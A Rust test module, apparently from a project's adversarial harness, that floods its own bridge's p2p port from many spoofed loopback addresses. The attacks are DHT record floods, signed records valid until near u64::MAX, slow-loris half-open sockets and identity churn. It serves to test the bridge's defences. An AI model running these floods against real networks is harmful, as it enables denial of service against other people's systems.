//! The attacks on the bridge's p2p port. libp2p's own TCP transport
//! cannot choose the address it dials from, so the hostile peers here use a
//! small dial-only transport that binds each socket to a chosen loopback
//! address (all of 127.0.0.0/8 is loopback on Linux): to the bridge, every
//! hostile peer comes from its own network.

use std::collections::VecDeque;
use std::net::{Ipv4Addr, SocketAddr};
use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::task::{Context, Poll};
use std::time::{Duration, Instant};

use cyrcles_core::cbor::Encode;
use cyrcles_core::record::builder::{self, sign_with_circle, sign_with_key};
use cyrcles_core::record::{CertStatus, EgoCert, EgoRecord, Endpoints, Inception, PeerEndpoint};
use cyrcles_core::{CircleSecret, SecretKey, UnixTime};
use cyrcles_p2p::protocols;
use futures::StreamExt;
use futures::future::join_all;
use libp2p::core::transport::{DialOpts, ListenerId, TransportError, TransportEvent};
use libp2p::core::upgrade::Version;
use libp2p::multiaddr::Protocol;
use libp2p::swarm::{NetworkBehaviour, SwarmEvent};
use libp2p::{Multiaddr, PeerId, Swarm, Transport, identify, identity::Keypair, kad, noise, yamux};
use tokio::io::AsyncReadExt;

use crate::World;
use crate::agents::unix_now;
use crate::flow::{auth_url, browser, open, pkce, start};
use crate::tally::{Tally, attacker_ip, ip, until};

/// TCP that dials from a chosen source address; it never listens.
#[derive(Clone, Copy)]
struct FromAddr(Ipv4Addr);

impl Transport for FromAddr {
    type Output = libp2p::tcp::tokio::TcpStream;
    type Error = std::io::Error;
    type ListenerUpgrade = futures::future::Pending<Result<Self::Output, Self::Error>>;
    type Dial = futures::future::BoxFuture<'static, Result<Self::Output, Self::Error>>;

    fn listen_on(
        &mut self,
        _: ListenerId,
        addr: Multiaddr,
    ) -> Result<(), TransportError<Self::Error>> {
        Err(TransportError::MultiaddrNotSupported(addr))
    }

    fn remove_listener(&mut self, _: ListenerId) -> bool {
        false
    }

    fn dial(
        &mut self,
        addr: Multiaddr,
        _: DialOpts,
    ) -> Result<Self::Dial, TransportError<Self::Error>> {
        let mut parts = addr.iter();
        let (Some(Protocol::Ip4(to)), Some(Protocol::Tcp(port))) = (parts.next(), parts.next())
        else {
            return Err(TransportError::MultiaddrNotSupported(addr));
        };
        let from = self.0;
        Ok(Box::pin(async move {
            let s = tokio::net::TcpSocket::new_v4()?;
            s.bind(SocketAddr::new(from.into(), 0))?;
            let stream = s.connect(SocketAddr::new(to.into(), port)).await?;
            stream.set_nodelay(true)?;
            Ok(libp2p::tcp::tokio::TcpStream(stream))
        }))
    }

    fn poll(
        self: Pin<&mut Self>,
        _: &mut Context<'_>,
    ) -> Poll<TransportEvent<Self::ListenerUpgrade, Self::Error>> {
        Poll::Pending
    }
}

#[derive(NetworkBehaviour)]
struct Hostile {
    kad: kad::Behaviour<kad::store::MemoryStore>,
    identify: identify::Behaviour,
}

/// A hostile peer with a new identity, dialling from `from`.
fn hostile(from: Ipv4Addr) -> Swarm<Hostile> {
    let key = Keypair::ed25519_from_bytes(cyrcles_bridge::random::random_bytes::<32>()).unwrap();
    libp2p::SwarmBuilder::with_existing_identity(key)
        .with_tokio()
        .with_other_transport(|key| {
            Ok::<_, Box<dyn std::error::Error + Send + Sync>>(
                FromAddr(from)
                    .upgrade(Version::V1)
                    .authenticate(noise::Config::new(key)?)
                    .multiplex(yamux::Config::default()),
            )
        })
        .unwrap()
        .with_behaviour(|key| {
            let id = key.public().to_peer_id();
            let mut cfg = kad::Config::new(protocols::KAD);
            cfg.set_periodic_bootstrap_interval(None)
                .set_max_packet_size(1 << 20)
                .set_publication_interval(None)
                .set_replication_interval(None);
            let mut kad = kad::Behaviour::with_config(id, kad::store::MemoryStore::new(id), cfg);
            kad.set_mode(Some(kad::Mode::Client));
            Hostile {
                kad,
                identify: identify::Behaviour::new(identify::Config::new(
                    protocols::IDENTIFY_VERSION.into(),
                    key.public(),
                )),
            }
        })
        .unwrap()
        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(60)))
        .build()
}

/// A valid throwaway ego record naming `peer` at an address nothing
/// listens on: (ego id, DHT key, bytes).
fn throwaway(peer: &PeerId, from: Ipv4Addr) -> (String, Vec<u8>, Vec<u8>) {
    let addr: Multiaddr = format!("/ip4/{from}/tcp/9").parse().unwrap();
    let new = builder::create_ego(
        &mut rand_core::OsRng,
        UnixTime::from_secs(unix_now()),
        builder::DEFAULT_CERT_VALIDITY_SECS,
        vec![PeerEndpoint {
            peer_id: peer.to_bytes(),
            addrs: vec![addr.to_vec()],
        }],
        builder::DEFAULT_ENDPOINTS_VALIDITY_SECS,
    )
    .unwrap();
    let id = new.record.ego_id();
    (
        id.to_string(),
        id.dht_key().as_bytes().to_vec(),
        new.record.to_cbor(),
    )
}

/// Reproduced attack 1 of the issue: a validly signed record whose
/// certificate (and endpoints) end at `not_after`, near `u64::MAX`.
fn until_the_end_of_time(not_after: u64, peer: &PeerId) -> (String, Vec<u8>, Vec<u8>) {
    let mut rng = rand_core::OsRng;
    let now = unix_now();
    let root = SecretKey::generate(&mut rng);
    let circle = CircleSecret::generate(&mut rng);
    let ego = SecretKey::generate(&mut rng);
    let inception = Inception {
        root_pk: root.public(),
        circle_pk: circle.public(),
        created_at: UnixTime::from_secs(now),
    };
    let ego_id = inception.ego_id();
    let cert = EgoCert {
        ego_id,
        seq: 1,
        ego_pk: ego.public(),
        not_before: UnixTime::from_secs(now),
        not_after: UnixTime::from_secs(not_after),
        status: CertStatus::Active,
        circle_index: 0,
        epoch: 0,
    };
    let endpoints = Endpoints {
        ego_id,
        seq: 1,
        peers: vec![PeerEndpoint {
            peer_id: peer.to_bytes(),
            addrs: vec![
                "/ip4/127.0.0.1/tcp/9"
                    .parse::<Multiaddr>()
                    .unwrap()
                    .to_vec(),
            ],
        }],
        issued_at: UnixTime::from_secs(now),
        expires_at: UnixTime::from_secs(not_after),
    };
    let record = EgoRecord {
        inception: sign_with_key(&root, inception),
        chain: Vec::new(),
        cert: sign_with_circle(&circle, &mut rng, cert),
        endpoints: Some(sign_with_key(&ego, endpoints)),
    };
    (
        ego_id.to_string(),
        ego_id.dht_key().as_bytes().to_vec(),
        record.to_cbor(),
    )
}

/// Hostile peers putting records to the bridge.
const PUTTERS: usize = 200;
/// Each at 120 PUTs a minute (the default per-peer rate of cyrcles-p2p).
const PUT_EVERY: Duration = Duration::from_millis(500);

/// One hostile peer: connects from `from`, then PUTs `first` and a new
/// throwaway record every [`PUT_EVERY`] to the bridge.
async fn putter(
    w: Arc<World>,
    from: Ipv4Addr,
    mut first: Vec<(String, Vec<u8>, Vec<u8>)>,
    deadline: Instant,
    tally: Arc<Tally>,
    recent: Arc<Mutex<VecDeque<String>>>,
) {
    let mut sw = hostile(from);
    let bridge = w.p2p.peer_id;
    sw.behaviour_mut()
        .kad
        .add_address(&bridge, w.p2p.tcp.clone());
    if sw.dial(w.p2p.addr.clone()).is_err() {
        tally.event("dial refused locally");
        return;
    }
    let me = *sw.local_peer_id();
    let mut tick = tokio::time::interval(PUT_EVERY);
    let end = tokio::time::sleep_until(deadline.into());
    tokio::pin!(end);
    loop {
        tokio::select! {
            _ = &mut end => break,
            _ = tick.tick() => {
                let (id, key, value) = first.pop().unwrap_or_else(|| throwaway(&me, from));
                sw.behaviour_mut().kad.put_record_to(
                    kad::Record::new(key, value),
                    std::iter::once(bridge),
                    kad::Quorum::One,
                );
                tally.sent();
                let mut r = recent.lock().unwrap();
                r.push_back(id);
                if r.len() > 1_000 {
                    r.pop_front();
                }
            }
            ev = sw.select_next_some() => match ev {
                SwarmEvent::Behaviour(HostileEvent::Kad(kad::Event::OutboundQueryProgressed {
                    result: kad::QueryResult::PutRecord(r), ..
                })) => tally.got(if r.is_ok() { "put acknowledged" } else { "put not acknowledged" }),
                SwarmEvent::ConnectionClosed { .. } => tally.event("connection closed"),
                SwarmEvent::OutgoingConnectionError { .. } => tally.event("dial failed"),
                _ => {}
            },
        }
    }
}

/// DHT floods: [`PUTTERS`] hostile identities, each from its own /24, put
/// valid throwaway records at the per-peer rate; the first also puts two
/// records valid until the end of time. Meanwhile strangers look up
/// throwaway egos (and those two) through the login page.
pub async fn dht(w: Arc<World>, deadline: Instant, tally: Arc<Tally>) {
    let recent = Arc::new(Mutex::new(VecDeque::new()));
    let placeholder = Keypair::ed25519_from_bytes(cyrcles_bridge::random::random_bytes::<32>())
        .unwrap()
        .public()
        .to_peer_id();
    let evil = vec![
        until_the_end_of_time(u64::MAX - 1, &placeholder),
        until_the_end_of_time(u64::MAX, &placeholder),
    ];
    let evil_ids: Vec<String> = evil.iter().map(|(id, _, _)| id.clone()).collect();
    tally.note(format!(
        "records valid until the end of time: {}",
        evil_ids.join(", ")
    ));
    let mut tasks = Vec::new();
    for i in 0..PUTTERS {
        let first = if i == 0 { evil.clone() } else { Vec::new() };
        tasks.push(tokio::spawn(putter(
            w.clone(),
            attacker_ip(200, i),
            first,
            deadline,
            tally.clone(),
            recent.clone(),
        )));
    }
    // Lookups through the login page (counted apart from the PUTs).
    let lookups = Arc::new(Tally::default());
    for wk in 0..8 {
        let (w, lookups, recent, evil_ids) =
            (w.clone(), lookups.clone(), recent.clone(), evil_ids.clone());
        tasks.push(tokio::spawn(async move {
            let clients: Vec<reqwest::Client> =
                (0..8).map(|k| browser(ip(160, wk * 8 + k))).collect();
            until(deadline, |n| {
                let c = clients[n as usize % clients.len()].clone();
                let ego = if n % 10 == 0 {
                    Some(evil_ids[n as usize / 10 % evil_ids.len()].clone())
                } else {
                    let r = recent.lock().unwrap();
                    r.get(r.len().saturating_sub(1 + (n as usize * 7) % 50))
                        .cloned()
                };
                let (w, lookups) = (w.clone(), lookups.clone());
                async move {
                    let Some(ego) = ego else {
                        tokio::time::sleep(Duration::from_millis(100)).await;
                        return;
                    };
                    let p = pkce();
                    let label = match open(&c, &auth_url(&w.t, &w.site.id, &p.challenge, "")).await
                    {
                        Err(e) => e,
                        Ok(ix) => match start(&w.t, &c, &ix, &ego, Some(&w.gate)).await {
                            Ok(_) => "ego 303 (challenge sent)".into(),
                            Err(e) => e,
                        },
                    };
                    lookups.request(label);
                }
            })
            .await;
        }));
    }
    join_all(tasks).await;
    tally.note(format!(
        "lookups through the login page: {} sent; outcomes: {}",
        lookups.sent_count(),
        lookups.shares()
    ));
}

/// Half-open sockets: 64 addresses × 32 sockets that connect and never
/// send a byte; each is opened again when the bridge closes it.
const SLOW_ADDRS: usize = 64;
const SLOW_PER_ADDR: usize = 32;

async fn slow_loris(to: SocketAddr, from: Ipv4Addr, deadline: Instant, tally: Arc<Tally>) {
    while Instant::now() < deadline {
        let opened = async {
            let s = tokio::net::TcpSocket::new_v4()?;
            s.bind(SocketAddr::new(from.into(), 0))?;
            tokio::time::timeout(Duration::from_secs(5), s.connect(to))
                .await
                .map_err(|_| std::io::Error::other("connect timed out"))?
        };
        match opened.await {
            Ok(mut stream) => {
                tally.request("TCP connection accepted");
                let began = Instant::now();
                let mut buf = [0u8; 256];
                loop {
                    match tokio::time::timeout_at(deadline.into(), stream.read(&mut buf)).await {
                        Err(_) => {
                            tally.event("half-open socket still open at the end");
                            return;
                        }
                        Ok(Ok(0)) | Ok(Err(_)) => {
                            let held = began.elapsed().as_secs();
                            tally.event(format!(
                                "closed by the bridge after {}",
                                if held < 5 {
                                    "< 5 s"
                                } else if held < 30 {
                                    "5-30 s"
                                } else {
                                    "≥ 30 s"
                                }
                            ));
                            break;
                        }
                        Ok(Ok(_)) => {}
                    }
                }
            }
            Err(e) => {
                tally.request(if e.to_string().contains("timed out") {
                    "TCP connect timed out"
                } else {
                    "TCP connect refused"
                });
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
        }
    }
}

/// The last part of a libp2p error, without addresses and peer ids.
fn gist(e: &dyn std::fmt::Display) -> String {
    let s = e.to_string();
    let last = s
        .rsplit(": ")
        .find(|p| !p.trim_matches(|c| "()[] ".contains(c)).is_empty());
    last.unwrap_or(&s)
        .trim_matches(|c| "()[] ".contains(c))
        .chars()
        .take(60)
        .collect()
}

/// One new identity connects from `from`, identifies, and leaves.
async fn come_and_go(w: &World, from: Ipv4Addr) -> String {
    let mut sw = hostile(from);
    if sw.dial(w.p2p.addr.clone()).is_err() {
        return "identity: dial refused locally".into();
    }
    let outcome = tokio::time::timeout(Duration::from_secs(10), async {
        let mut connected = false;
        loop {
            match sw.select_next_some().await {
                SwarmEvent::ConnectionEstablished { .. } => connected = true,
                SwarmEvent::Behaviour(HostileEvent::Identify(identify::Event::Received {
                    ..
                })) if connected => return "identity: connected, identified, left".to_string(),
                SwarmEvent::OutgoingConnectionError { error, .. } => {
                    return format!("identity: dial failed ({})", gist(&error));
                }
                SwarmEvent::ConnectionClosed { .. } => {
                    return "identity: connection closed by the bridge".to_string();
                }
                _ => {}
            }
        }
    })
    .await;
    outcome.unwrap_or_else(|_| "identity: no connection within 10 s".to_string())
}

/// Slow loris on the p2p port, and new libp2p identities connecting and
/// leaving (16 at a time, from 256 addresses).
pub async fn connections(w: Arc<World>, deadline: Instant, tally: Arc<Tally>) {
    let mut tasks = Vec::new();
    for a in 0..SLOW_ADDRS {
        for _ in 0..SLOW_PER_ADDR {
            tasks.push(tokio::spawn(slow_loris(
                w.p2p.socket,
                attacker_ip(230, a),
                deadline,
                tally.clone(),
            )));
        }
    }
    for wk in 0..16 {
        let (w, tally) = (w.clone(), tally.clone());
        tasks.push(tokio::spawn(async move {
            until(deadline, |n| {
                let from = attacker_ip(220, wk * 16 + n as usize % 16);
                let (w, tally) = (w.clone(), tally.clone());
                async move {
                    let label = come_and_go(&w, from).await;
                    tally.request(label);
                }
            })
            .await;
        }));
    }
    join_all(tasks).await;
}
